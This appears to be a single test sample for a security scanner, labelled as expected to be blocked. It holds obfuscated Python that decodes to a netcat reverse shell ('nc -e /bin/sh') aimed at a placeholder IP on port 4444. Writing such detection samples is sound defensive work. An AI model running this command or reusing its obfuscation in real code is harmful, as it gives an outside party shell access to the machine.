# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/netcat_exec.py technique: encode+getattr
subprocess = __import__(__import__('base64').b64decode('c3VicHJvY2Vzcw==').decode())
getattr(subprocess, ''.join(map(chr, [114, 117, 110])))([getattr(bytes, bytes.fromhex('66726f6d686578').decode())('6e63').decode(), ''.join(map(chr, [45, 101])), 'hs/nib/'[::-1], __import__('codecs').decode('203.0.113.5', 'rot13'), ''.join(['4', '4', '4', '4'])], check=False)
